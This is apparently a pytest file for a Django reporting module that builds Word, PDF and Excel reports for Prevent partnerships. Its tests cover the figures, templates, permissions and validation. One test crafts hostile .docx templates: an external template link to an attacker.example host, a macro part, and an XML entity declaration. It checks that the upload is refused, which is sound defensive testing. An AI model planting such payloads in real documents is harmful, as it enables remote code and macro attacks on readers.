"""Reports from live data (issue 9): the exact figures in each format, the partnership's template, versions
that reproduce, background generation, downloads logged, who may do what, and refusals."""
import datetime as dt
import io

import docx
import openpyxl
import pytest
from django.urls import reverse
from pypdf import PdfReader

from prevent_hub.audit.models import AccessLog
from prevent_hub.core.roles import PARTNERSHIP_WORKERS, PLAN_EDITORS, Role
from prevent_hub.core.testing import coverage
from prevent_hub.core.testing.matrix import row_counts, user_with
from prevent_hub.directory.demo import load_warwickshire
from prevent_hub.directory.models import Organisation
from prevent_hub.governance.models import Obligation
from prevent_hub.insights.models import Referral
from prevent_hub.plans.demo import load_warwickshire_plan
from prevent_hub.plans.models import PlanVersion
from prevent_hub.reports import services
from prevent_hub.reports.models import ReportFile, ReportRun, ReportTemplate
from prevent_hub.training.models import Course, HeadCount, TrainingSession

pytestmark = pytest.mark.django_db

AS_OF = dt.date(2018, 1, 15)  # in the seed plan's year: Q4 2017/18 (January to March 2018)

coverage.register(*(name for name, _ in coverage.all_url_patterns() if name.startswith("reports:")))


@pytest.fixture
def dataset():
    """The demo partnership and plan, with known training and referral figures in Q4 2017/18, all entered
    on 12 January 2018 (a report as of a day shows only what had been entered by then)."""
    import time_machine

    with time_machine.travel(dt.datetime(2018, 1, 12, 12, 0, tzinfo=dt.UTC), tick=False):
        return _dataset()


def _dataset():
    partnership, _ = load_warwickshire()
    version = load_warwickshire_plan(partnership)
    course = Course.objects.create(partnership=partnership, name="WRAP", level="wrap")
    session = TrainingSession.objects.create(partnership=partnership, course=course, date=dt.date(2018, 1, 10),
                                             venue="Shire Hall")
    HeadCount.objects.create(partnership=partnership, session=session, sector="education", count=17)
    HeadCount.objects.create(partnership=partnership, session=session, sector="health", count=6)
    referrals = []
    for n in range(30):  # 2017/18: 20 education and 10 police; 8 discussed, of which 6 adopted
        stage = "adopted" if n < 6 else "discussed_at_panel" if n < 8 else "no_further_action"
        referrals.append(Referral(partnership=partnership, reference=f"R{n}", referral_date=dt.date(2017, 10, 2),
                                  financial_year=2017, sector="education" if n < 20 else "police", age_band="21_30",
                                  gender="male", concern="other", district="Rugby", stage=stage))
    referrals += [Referral(partnership=partnership, reference=f"P{n}", referral_date=dt.date(2017, 10, 3),
                           financial_year=2017, sector="probation", age_band="21_30", gender="male", concern="other",
                           district="Rugby", stage="signposted") for n in range(2)]
    Referral.objects.bulk_create(referrals)
    Obligation.objects.create(partnership=partnership, title="Annual Prevent return to the Home Office",
                              due_date=dt.date(2018, 3, 30), owner_text="Prevent Officer")
    return partnership, version


def make(partnership, version, kind="quarterly", period=AS_OF, known_on=None, tag="", **words):
    """Ask for a report, write ``words`` (commentary, highlights, case study) into its draft, make it."""
    run = services.report_request(actor=None, partnership=partnership, kind=kind, period=period, known_on=known_on,
                                  plan_version=version, tag=tag)
    if run.status == "draft":
        run = services.report_draft_save(actor=None, run=run, expected_version=run.version, make=True,
                                         **{"commentary": "", "highlights": "", "case_study": "", **words})
    run = services.report_generate(run.pk)
    assert run.status == "done", run.error
    return run, {f.format: bytes(f.content) for f in run.files.all()}


def docx_text(body: bytes) -> str:
    document = docx.Document(io.BytesIO(body))
    parts = [p.text for p in document.paragraphs]
    parts += [" | ".join(cell.text for cell in row.cells) for table in document.tables for row in table.rows]
    return "\n".join(parts)


def pdf_text(body: bytes) -> str:
    return "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(body)).pages)


def test_the_quarterly_update_holds_the_exact_figures_in_word_pdf_and_excel(dataset):
    partnership, version = dataset
    _, files = make(partnership, version, known_on=AS_OF)
    word, pdf = docx_text(files["docx"]), pdf_text(files["pdf"])
    book = openpyxl.load_workbook(io.BytesIO(files["xlsx"]))
    for text in (word, pdf):
        assert "Prevent Officer update: Q4 2017/18" in text
        assert "32 actions on 15 January 2018" in text
        assert "23 people trained from 1 January 2018 to 31 March 2018, at 1 session" in text
        assert "Annual Prevent return to the Home Office" in text  # coming up later in the quarter
    # Tables: training by sector and referrals (small numbers hidden) in Word, and as numbers in the data pack.
    assert "Education and childcare | 17" in word and "Health | 6" in word
    # Probation's 2 is protected by the smaller other sector; 8 discussed at a panel and 6 adopted would say 2
    # were discussed and not adopted, so the smaller of those is hidden too.
    assert "Probation | <5" in word and "Education | 20" in word and "Police | [c]" in word
    assert "Referrals | 32 | 100.0%" in word and "Discussed at a Channel panel | 8 | 25.0%" in word
    assert "Adopted as a Channel case | [c] | –" in word
    sectors = {row[0]: row[1] for row in book["Training by sector"].iter_rows(min_row=2, values_only=True)}
    assert sectors["Education and childcare"] == 17 and sectors["Health"] == 6
    referrals = {row[0]: row[1] for row in book["Referrals by sector"].iter_rows(min_row=2, values_only=True)}
    assert referrals["Education"] == 20 and referrals["Probation"] == "<5" and referrals["Total"] == 32
    themes = list(book["Progress by theme"].iter_rows(min_row=2, values_only=True))
    assert sum(row[-1] for row in themes) == 32 and len(themes) == 6
    # The PDF's text is selectable and the charts carry alternative text in Word.
    assert "Page 1 of" in pdf
    document = docx.Document(io.BytesIO(files["docx"]))
    descriptions = [shape._inline.docPr.get("descr") for shape in document.inline_shapes]
    assert descriptions and all("The figures are in the table that follows" in d for d in descriptions)


RAG_COLOURS = {"Red": "#ca3535", "Amber": "#f47738", "Green": "#0f7a52", "Not rated": "#cecece"}


def _pdf_fill_colours(page) -> set[str]:
    """The fill colours a PDF page paints with (its content stream's ``r g b rg`` operators), as #rrggbb."""
    import re

    stream = page.get_contents().get_data().decode("latin-1")
    return {"#%02x%02x%02x" % tuple(round(float(c) * 255) for c in match.split())
            for match in re.findall(r"([0-9.]+ [0-9.]+ [0-9.]+) rg", stream)}


def test_the_reports_plan_chart_shows_every_rating_by_theme_in_word_and_pdf(dataset):
    """The report's chart showed only green (it drew each theme's green count alone); it now divides each
    theme's bar into every rating, as the dashboard does, with the themes named and a key."""
    from PIL import Image

    from prevent_hub.plans.selectors import dashboard
    from prevent_hub.reports import content

    partnership, version = dataset
    run, files = make(partnership, version)
    scope = content.Scope.of(run)  # the plan as the report reads it: on the quarter's last day
    themes = dashboard(version, scope.status_day, recorded_before=scope.recorded_before)["themes"]
    assert all(sum(row[key] for row in themes) for key in ("red", "amber", "green", "none"))  # a mixed plan
    doc = content.quarterly(run)
    chart = next(block.chart for block in doc.blocks if block.kind == "chart")
    assert chart.title == "Actions by RAG rating and theme"
    assert [s.label for s in chart.series] == list(RAG_COLOURS) and [s.colour for s in chart.series] == list(
        RAG_COLOURS.values())
    assert [(bar.label, bar.values) for bar in chart.bars] == [
        (f"{row['theme'].number}. {row['theme'].title}", [row["red"], row["amber"], row["green"], row["none"]])
        for row in themes]
    # Word: the first picture is that chart, painted in every rating's colour.
    document = docx.Document(io.BytesIO(files["docx"]))
    blob = document.inline_shapes[0]._inline.graphic.graphicData.pic.blipFill.blip.embed
    picture = Image.open(io.BytesIO(document.part.related_parts[blob].blob)).convert("RGB")
    painted = {"#%02x%02x%02x" % colour for _, colour in picture.getcolors(maxcolors=1 << 20)}
    assert set(RAG_COLOURS.values()) <= painted
    assert document.inline_shapes[0]._inline.docPr.get("title") == "Actions by RAG rating and theme"
    # PDF: the page with the plan's progress paints every rating's colour, and names the themes and the key.
    reader = PdfReader(io.BytesIO(files["pdf"]))
    page = next(p for p in reader.pages if "Progress on the action plan" in p.extract_text())
    assert set(RAG_COLOURS.values()) <= _pdf_fill_colours(page)
    text = page.extract_text().replace(" ", "")
    for word in ("Red", "Amber", "Green", "Notrated", "Theme", "Actions", "4.Safeeducation"):
        assert word in text, word


def test_the_annual_report_and_the_action_plan_by_tag(dataset):
    partnership, version = dataset
    _, files = make(partnership, version, kind="annual", period=dt.date(2018, 3, 31))
    word = docx_text(files["docx"])
    assert "Prevent annual report 2017/18" in word
    assert "England and Wales" in word and "What happened, theme by theme" in word
    assert "No update was given for this theme's actions." in word  # no owner reported in this data set
    assert "23 people trained from 1 April 2017 to 31 March 2018" in word
    tagged = [a for a in version.actions.all() if "OFOF" in a.tags]
    assert tagged
    _, files = make(partnership, version, kind="action_plan", tag="OFOF")
    word = docx_text(files["docx"])
    assert "Key action | Who | Timescale | Outcomes | Notes" in word
    for action in version.actions.all():
        assert (f"{action.ref} {action.text}" in word) == (action in tagged)


def test_a_report_made_again_as_known_on_a_day_reproduces_its_data_pack_byte_for_byte(dataset):
    partnership, version = dataset
    _, first = make(partnership, version, known_on=AS_OF)
    # Later records do not change a report made as known on that day.
    session = TrainingSession.objects.first()
    HeadCount.objects.create(partnership=partnership, session=TrainingSession.objects.create(
        partnership=partnership, course=session.course, date=dt.date(2018, 2, 20), venue="Later"),
        sector="police", count=40)
    _, second = make(partnership, version, known_on=AS_OF)
    assert second["xlsx"] == first["xlsx"]
    assert docx_text(first["docx"]) == docx_text(second["docx"])
    assert ReportRun.objects.count() == 2  # both versions kept
    # Made as recorded now, the February session is in it: the report tells what happened in the quarter.
    _, now = make(partnership, version)
    assert "63 people trained from 1 January 2018 to 31 March 2018, at 2 sessions" in docx_text(now["docx"])


def _template_with_logo() -> bytes:
    from docx.shared import Inches, RGBColor

    document = docx.Document()
    document.styles["Heading 1"].font.name = "Template Sans"
    document.styles["Heading 1"].font.color.rgb = RGBColor(0x8A, 0x1C, 0x5A)
    logo = io.BytesIO()
    from PIL import Image

    Image.new("RGB", (120, 40), (138, 28, 90)).save(logo, format="PNG")
    logo.seek(0)
    document.sections[0].header.paragraphs[0].add_run().add_picture(logo, width=Inches(1.2))
    document.add_paragraph("This text is not used.")
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def test_an_uploaded_template_gives_the_report_its_styles_and_header_logo(client, dataset):
    partnership, version = dataset
    client.force_login(user_with(Role.COORDINATOR, partnership))
    upload = io.BytesIO(_template_with_logo())
    upload.name = "warwickshire.docx"
    response = client.post(reverse("reports:reporttemplate_add", kwargs={"partnership": partnership.slug}),
                           {"name": "Warwickshire house style", "file": upload})
    assert response.status_code == 302
    assert ReportTemplate.objects.get().is_default
    _, files = make(partnership, version)
    document = docx.Document(io.BytesIO(files["docx"]))
    assert document.styles["Heading 1"].font.name == "Template Sans"
    assert str(document.styles["Heading 1"].font.color.rgb) == "8A1C5A"
    header = document.sections[0].header
    assert header._element.xpath(".//pic:pic")  # the logo is in the header
    assert "This text is not used." not in docx_text(files["docx"])
    assert any(p.style.name == "Heading 1" for p in document.paragraphs)


@pytest.mark.parametrize("name, data, message", [
    ("notes.txt", b"plain text", "must be a Word .docx file"),
    ("fake.docx", b"%PDF-1.4 not a zip", "is named .docx but is not a Word document"),
    ("broken.docx", b"PK\x03\x04 not really a zip", "not a Word document"),
])
def test_a_bad_template_is_refused_and_nothing_is_saved(client, dataset, name, data, message):
    partnership, _ = dataset
    client.force_login(user_with(Role.COORDINATOR, partnership))
    upload = io.BytesIO(data)
    upload.name = name
    before = row_counts()
    response = client.post(reverse("reports:reporttemplate_add", kwargs={"partnership": partnership.slug}),
                           {"name": "x", "file": upload})
    assert response.status_code == 400 and message in response.content.decode()
    assert row_counts() == before


def test_asking_for_a_report_queues_it_for_the_worker_and_the_page_shows_progress(client, dataset,
                                                                                  django_capture_on_commit_callbacks):
    from django_tasks_db.models import DBTaskResult

    partnership, version = dataset
    client.force_login(user_with(Role.COORDINATOR, partnership))
    import time_machine

    with time_machine.travel(dt.datetime(2018, 4, 3, 9, 0, tzinfo=dt.UTC), tick=False):
        form = client.get(reverse("reports:reportrun_add", kwargs={"partnership": partnership.slug})).context["form"]
        assert form.initial["quarter"] == "2018-01-01"  # the last quarter that has ended
        with django_capture_on_commit_callbacks(execute=True):
            response = client.post(reverse("reports:reportrun_add", kwargs={"partnership": partnership.slug}),
                                   {"kind": "quarterly", "quarter": "2018-01-01", "year": "2018-04-01"})
        assert response.status_code == 302
        run = ReportRun.objects.get()
        assert (run.status, run.period_start, run.period_end) == ("draft", dt.date(2018, 1, 1), dt.date(2018, 3, 31))
        assert not DBTaskResult.objects.exists()  # a draft waits for the coordinator's words
        draft = client.get(run.get_absolute_url()).content.decode()
        assert "This report is a draft" in draft and "Make the report" in draft
        with django_capture_on_commit_callbacks(execute=True):
            client.post(reverse("reports:reportrun_draft", kwargs={"partnership": partnership.slug, "pk": run.pk}),
                        {"commentary": "A steady quarter.", "highlights": "WRAP for 23 staff", "case_study": "",
                         "expected_version": run.version, "make": "1"})
    run.refresh_from_db()
    client.force_login(user_with(Role.COORDINATOR, partnership))  # the 2018 session has long expired
    assert run.commentary == "A steady quarter." and run.status == "queued"
    assert DBTaskResult.objects.filter(args_kwargs__args=[run.pk]).exists()
    page = client.get(run.get_absolute_url()).content.decode()
    assert "report-progress.js" in page and "Being made: 0%" in page
    status = reverse("reports:reportrun_status", kwargs={"partnership": partnership.slug, "pk": run.pk})
    assert client.get(status).json() == {"status": "queued", "progress": 0, "step": ""}
    from prevent_hub.reports.tasks import generate_report_task

    assert generate_report_task.call(run.pk) == "done"
    assert client.get(status).json()["status"] == "done"
    page = client.get(run.get_absolute_url()).content.decode()
    assert "report-progress.js" not in page and "Excel data pack" in page


@pytest.mark.parametrize("data, message", [
    ({"kind": "quarterly", "quarter": "2999-01-01"}, "Select a valid choice"),
    ({"kind": "quarterly", "quarter": ""}, "Choose the quarter to report on"),
    ({"kind": "annual", "year": ""}, "Choose the year to report on"),
    ({"kind": "quarterly", "known_on_0": "1", "known_on_1": "1", "known_on_2": "2099"},
     "Choose an &#x27;as known on&#x27; day that has happened"),
    ({"kind": "quarterly", "known_on_0": "1", "known_on_1": "1", "known_on_2": "2999"},
     "Enter a date between 1990 and 2100"),
    ({"kind": "quarterly", "known_on_0": "31", "known_on_1": "2", "known_on_2": "2026"},
     "The &#x27;as known on&#x27; date must be a real date"),
    ({"kind": "quarterly", "known_on_0": "3", "known_on_2": "2026"}, "date must include a month"),
    ({"kind": "action_plan"}, "Choose the action plan to print"),
    ({"kind": "weekly"}, "Select a valid choice"),
    ({}, "Choose which report to make"),
])
def test_a_report_that_cannot_be_made_is_refused_with_the_reason(client, dataset, data, message):
    from prevent_hub.plans.schedule import period_containing

    partnership, _ = dataset
    if data.get("kind") == "quarterly":  # one of the quarters offered (they are this year's), unless the case says
        data.setdefault("quarter", period_containing(dt.date.today()).start.isoformat())
    client.force_login(user_with(Role.COORDINATOR, partnership))
    before = row_counts()
    response = client.post(reverse("reports:reportrun_add", kwargs={"partnership": partnership.slug}), data)
    assert response.status_code == 400 and message in response.content.decode()
    assert row_counts() == before


@pytest.mark.parametrize("role", list(Role))
def test_who_may_read_make_and_download_reports(client, dataset, role):
    partnership, version = dataset
    run, _ = make(partnership, version, kind="action_plan")
    client.force_login(user_with(role, partnership))
    readers, makers = PARTNERSHIP_WORKERS, PLAN_EDITORS
    slug = partnership.slug
    assert client.get(reverse("reports:reportrun_list", kwargs={"partnership": slug})).status_code == (
        200 if role in readers else 403)
    assert client.get(run.get_absolute_url()).status_code == (200 if role in readers else 404)
    assert client.get(reverse("reports:reportrun_add", kwargs={"partnership": slug})).status_code == (
        200 if role in makers else 403)
    assert client.get(reverse("reports:reporttemplate_list", kwargs={"partnership": slug})).status_code == (
        200 if role in makers else 403)
    status = reverse("reports:reportrun_status", kwargs={"partnership": slug, "pk": run.pk})
    assert client.get(status).status_code == (200 if role in readers else 404)
    before = AccessLog.objects.filter(event="download").count()
    response = client.get(reverse("reports:reportrun_download", kwargs={"partnership": slug, "pk": run.pk, "fmt": "pdf"}))
    if role in readers:
        assert response.status_code == 200 and response.content.startswith(b"%PDF")
        assert AccessLog.objects.filter(event="download").count() == before + 1
    else:
        assert response.status_code == 404
        assert AccessLog.objects.filter(event="download").count() == before


def test_another_partnerships_report_answers_404(client, dataset):
    partnership, version = dataset
    run, _ = make(partnership, version, kind="action_plan")
    from prevent_hub.core.testing.factories import PartnershipFactory

    other = PartnershipFactory(slug="bravo")
    client.force_login(user_with(Role.COORDINATOR, other))
    assert client.get(reverse("reports:reportrun_detail", kwargs={"partnership": "bravo", "pk": run.pk})).status_code == 404
    assert client.get(reverse("reports:reportrun_download", kwargs={"partnership": "bravo", "pk": run.pk,
                                                                    "fmt": "docx"})).status_code == 404
    assert not ReportFile.objects.filter(partnership=other).exists()
    assert Organisation.objects.filter(partnership=partnership).exists()
    assert PlanVersion.objects.filter(partnership=partnership).exists()


def test_records_entered_after_the_as_known_on_day_do_not_change_the_report(dataset):
    """Reproducible: a report as known on a day leaves out what was typed in later."""
    from prevent_hub.plans.models import MitigatingAction

    partnership, version = dataset
    _, first = make(partnership, version, known_on=AS_OF)
    session = TrainingSession.objects.first()  # held on 10 January 2018, before the as-of day
    HeadCount.objects.create(partnership=partnership, session=session, sector="police", count=40)
    Referral.objects.create(partnership=partnership, reference="LATE", referral_date=dt.date(2017, 11, 1),
                            financial_year=2017, sector="police", age_band="21_30", gender="male", concern="other",
                            district="Rugby", stage="adopted")
    action = version.actions.order_by("sort_key").first()
    MitigatingAction.objects.create(partnership=partnership, action=action, text="A later mitigation")
    _, second = make(partnership, version, known_on=AS_OF)
    assert docx_text(first["docx"]) == docx_text(second["docx"])
    # They are there for anything that looks at today's records.
    from prevent_hub.training.selectors import coverage

    assert coverage(partnership, dt.date(2018, 1, 1), dt.date(2018, 1, 15))["total"] == 63


def _template_with(relationship_xml: str = "", extra_part: tuple | None = None) -> bytes:
    """A real template with a relationship added to its settings (or an extra part)."""
    import zipfile

    source = zipfile.ZipFile(io.BytesIO(_template_with_logo()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as target:
        for item in source.infolist():
            data = source.read(item)
            if item.filename == "word/_rels/document.xml.rels" and relationship_xml:
                data = data.replace(b"</Relationships>", relationship_xml.encode() + b"</Relationships>")
            target.writestr(item, data)
        if extra_part:
            target.writestr(*extra_part)
    return out.getvalue()


@pytest.mark.parametrize("data, message", [
    (lambda: _template_with('<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                            'relationships/attachedTemplate" Target="http://attacker.example/t.dotm" '
                            'TargetMode="External"/>'), "links to something outside the file"),
    (lambda: _template_with('<Relationship Id="rIdY" Type="http://schemas.microsoft.com/office/2006/relationships/'
                            'vbaProject" Target="vbaProject.bin"/>', ("word/vbaProject.bin", b"macro")),
     "macros, embedded objects"),
    (lambda: _template_with(extra_part=("customXml/item9.xml", b"<!-- " + b"x" * 5000 + b' --><!DOCTYPE a [<!ENTITY e '
                                        b'"boom">]><a>&e;</a>')), "document type declaration"),
])
def test_a_template_that_reaches_outside_itself_is_refused(client, dataset, data, message):
    partnership, _ = dataset
    client.force_login(user_with(Role.COORDINATOR, partnership))
    upload = io.BytesIO(data())
    upload.name = "hostile.docx"
    response = client.post(reverse("reports:reporttemplate_add", kwargs={"partnership": partnership.slug}),
                           {"name": "x", "file": upload})
    page = response.content.decode()
    # Refused either by name or because Word's own package reader will not take it as it is.
    assert response.status_code == 400 and (message in page or "not a Word document" in page), page[-3000:]
    assert not ReportTemplate.objects.exists()


def test_a_year_starting_in_january_is_named_by_its_year_and_odd_text_does_not_break_a_report(dataset):
    partnership, version = dataset
    partnership.year_start_month = 1
    partnership.save()
    action = version.actions.order_by("sort_key").first()
    action.text = "A key action\x0bwith a soft line break and a bell\x07"
    action.save()
    run, files = make(partnership, version, kind="annual", period=dt.date(2018, 3, 31))
    assert run.title == "Annual report 2018"
    assert "Prevent annual report 2018" in docx_text(files["docx"])
    _, files = make(partnership, version, kind="action_plan")
    assert "A key action\nwith a soft line break and a bell" in docx_text(files["docx"])


def test_a_report_is_made_once_and_a_failure_says_so_without_details(client, dataset, monkeypatch):
    partnership, version = dataset
    run, _ = make(partnership, version, kind="action_plan")
    assert services.report_generate(run.pk).files.count() == 3  # already made: nothing made twice
    broken = services.report_request(actor=None, partnership=partnership, kind="action_plan", plan_version=version)
    monkeypatch.setattr(services.renderers, "pdf_bytes", lambda *a, **k: (_ for _ in ()).throw(OSError("disk /srv full")))
    assert services.report_generate(broken.pk).status == "failed"
    client.force_login(user_with(Role.COORDINATOR, partnership))
    page = client.get(broken.get_absolute_url()).content.decode()
    assert "could not be made" in page and "/srv" not in page
    assert not broken.files.exists()


def test_the_latest_mitigation_entered_by_the_as_known_on_day_is_reported(dataset):
    import time_machine

    from prevent_hub.plans.models import MitigatingAction

    partnership, version = dataset
    action = version.actions.get(ref="1.2")  # off track on 15 January 2018 (see the exact-figures test)
    with time_machine.travel(dt.datetime(2018, 1, 13, 9, 0, tzinfo=dt.UTC), tick=False):
        MitigatingAction.objects.create(partnership=partnership, action=action, text="First plan", owner_text="Lead",
                                        due_date=dt.date(2018, 2, 1))
    with time_machine.travel(dt.datetime(2018, 1, 14, 9, 0, tzinfo=dt.UTC), tick=False):
        MitigatingAction.objects.create(partnership=partnership, action=action, text="Revised plan", owner_text="Lead",
                                        due_date=dt.date(2018, 2, 15))
    MitigatingAction.objects.create(partnership=partnership, action=action, text="Entered later", owner_text="Lead")
    word = docx_text(make(partnership, version, known_on=AS_OF)[1]["docx"])
    assert "Revised plan (Lead, by 15 February 2018)" in word
    assert "First plan" not in word and "Entered later" not in word
